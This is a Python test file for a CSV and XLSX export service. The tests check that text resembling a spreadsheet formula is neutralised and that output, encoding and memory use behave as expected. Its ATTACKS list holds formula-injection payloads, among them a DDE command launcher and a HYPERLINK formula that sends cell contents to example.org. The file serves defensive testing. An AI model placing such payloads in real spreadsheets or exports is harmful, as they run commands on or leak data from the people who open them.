"""What a spreadsheet makes of an exported list: the same texts and numbers, and nothing to run."""

import csv
import io
import tracemalloc
from collections.abc import Iterator
from datetime import datetime

import pytest

from domain.vocabulary import Channel
from domain.working_days import SHANGHAI
from service.exporting.cells import Cell, cell_of, defused
from service.exporting.csv_file import write_csv
from service.exporting.xlsx_file import About, write_xlsx
from tests.service.exporting.reading import links, sheets

MOMENT = datetime(2026, 3, 2, 9, 30, tzinfo=SHANGHAI)
ABOUT = About("说明", {"截至": MOMENT, "所知": 17})
ATTACKS = (
    '=HYPERLINK("http://example.org/?"&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("路灯不亮", "1+1=2", "a@b", "2026-000001", "'quoted", "", "http://example.org", "007")


def as_csv(rows: list[list[Cell]], language: str = "zh-CN") -> str:
    file = io.BytesIO()
    write_csv(file, ["编号", "主题"], rows, language)
    return file.getvalue().decode()


def as_xlsx(rows: list[list[Cell]], language: str = "zh-CN") -> bytes:
    file = io.BytesIO()
    write_xlsx(file, "清单", ["编号", "主题"], rows, ABOUT, language, MOMENT)
    return file.getvalue()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_like_a_formula_is_text_in_both_files(attack: str) -> None:
    assert defused(attack) == "'" + attack
    (_, row) = csv.reader(io.StringIO(as_csv([["1", attack]]), newline=""))
    assert row == ["1", "'" + attack]
    book = as_xlsx([["1", attack]])
    kind, content = sheets(book)["清单"][1][1]
    assert kind == "inlineStr"
    assert content.replace("_x000D_", "\r").replace("\r", "") == attack.replace("\r", "")
    assert links(book) == []


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text
    assert links(as_xlsx([["1", text]])) == []


def test_a_small_csv_byte_by_byte() -> None:
    rows: list[list[Cell]] = [
        ["2026-000001", '路灯,"坏"了'],
        [MOMENT, None],
        [-3, True],
        [False, 1.5],
    ]
    assert as_csv(rows) == (
        "\ufeff编号,主题\r\n"
        '2026-000001,"路灯,""坏""了"\r\n'
        "2026-03-02 09:30:00,\r\n"
        "-3,是\r\n"
        "否,1.5\r\n"
    )


def test_a_small_workbook_cell_by_cell() -> None:
    book = as_xlsx([["007", "路灯"], [MOMENT, None], [-3, True]])
    found = sheets(book)
    assert list(found) == ["清单", "说明"]
    assert found["清单"] == [
        [("inlineStr", "编号"), ("inlineStr", "主题")],
        [("inlineStr", "007"), ("inlineStr", "路灯")],
        [("n", "46083.39583333334")],
        [("n", "-3"), ("inlineStr", "是")],
    ]
    assert found["说明"] == [
        [("inlineStr", "截至"), ("n", "46083.39583333334")],
        [("inlineStr", "所知"), ("n", "17")],
    ]
    assert as_xlsx([["007", "路灯"], [MOMENT, None], [-3, True]]) == book


def test_characters_that_xml_cannot_hold_do_not_spoil_a_workbook() -> None:
    text = "a\x00b\x1fc\x9bd\ufffee\U0001f600" + "长" * 40_000
    ((_, content),) = sheets(as_xlsx([[text]]))["清单"][1:2][0:1][0]
    assert content.startswith("a") and "长" in content


def test_terms_are_shown_by_their_labels_and_several_things_in_one_cell() -> None:
    assert cell_of(Channel.HOTLINE, "zh-CN") == Channel.HOTLINE.zh
    assert cell_of(["housing", "water"], "zh-CN") == "housing、water"
    assert cell_of(("housing", "water"), "en") == "housing, water"
    assert cell_of(None, "en") is None
    assert cell_of(True, "en") is True


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_long_list_needs_no_more_memory_than_a_short_one(kind: str) -> None:
    def rows() -> Iterator[list[Cell]]:
        for number in range(30_000):
            yield [f"2026-{number:06}", f"第{number}件：" + "路灯不亮" * 20]

    tracemalloc.start()
    with open("/dev/null", "wb") if kind == "csv" else io.BytesIO() as file:
        if kind == "csv":
            write_csv(file, ["编号", "主题"], rows(), "zh-CN")
        else:
            write_xlsx(file, "清单", ["编号", "主题"], rows(), ABOUT, "zh-CN", MOMENT)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 4_000_000
